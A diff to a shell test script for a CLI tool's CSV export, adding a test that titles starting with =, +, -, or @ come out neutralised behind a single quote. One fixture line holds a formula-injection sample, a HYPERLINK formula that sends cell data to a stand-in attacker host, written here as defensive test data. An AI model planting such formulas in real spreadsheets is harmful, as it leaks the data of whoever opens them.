@@ -1,7 +1,8 @@
 #!/bin/sh
 # plan.sh WAYMARK SOURCE_DIR - `waymark plan` and `waymark plugins`: the JSON
-# carries every field of plan.md, CSV quotes by RFC 4180, Markdown totals add
-# up, output is reproducible, plugin configuration errors have positions.
+# carries every field of plan.md, CSV quotes by RFC 4180 and neutralises
+# formulas, Markdown totals add up, output is reproducible, plugin
+# configuration errors have positions.
 set -u
 bin=$1 src=$2
 dir="$src/tests/cli/plan"
@@ -52,6 +53,18 @@ head -1 "$tmp/q.csv" | grep -q '^rank,id,title,tier,score,effort_days,cost,statu
 grep -q '"Title with a comma, a ""quote"" and a | pipe"' "$tmp/q.csv" && ok "csv quoting" || bad "csv quoting"
 [ "$(wc -l <"$tmp/q.csv")" -eq 3 ] && ok "csv: one row per initiative" || bad "csv row count"
 grep -q "$(printf '\r$')" "$tmp/q.csv" && ok "csv: CRLF line ends" || bad "csv line ends"
+# Titles a spreadsheet would run as formulas are written as quoted text
+# behind a single quote (OWASP); the numbers beside them stay numbers.
+"$bin" plan --format csv "$dir/formulas.yaml" >"$tmp/f.csv" || bad "csv of formulas failed"
+cat >"$tmp/f.want" <<'EOF2'
+1,A,"'=1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+2,B,"'+1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+3,C,"'-1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+4,D,"'@SUM(A1:A2)",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+5,E,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Report"")",should,0,10,5000,scheduled,2027-Q1,2027-Q1,
+EOF2
+tail -n +2 "$tmp/f.csv" | tr -d '\r' | cmp -s - "$tmp/f.want" && ok "csv: formulas neutralised" ||
+    { bad "csv: formulas not neutralised"; cat "$tmp/f.csv"; }
 "$bin" plan --format md "$dir/quoting.yaml" | grep -q 'a \\| pipe' && ok "md escapes pipes" || bad "md pipe escape"
 
 "$bin" plan "$dir/bad_config.yaml" >"$tmp/out" 2>"$tmp/err"
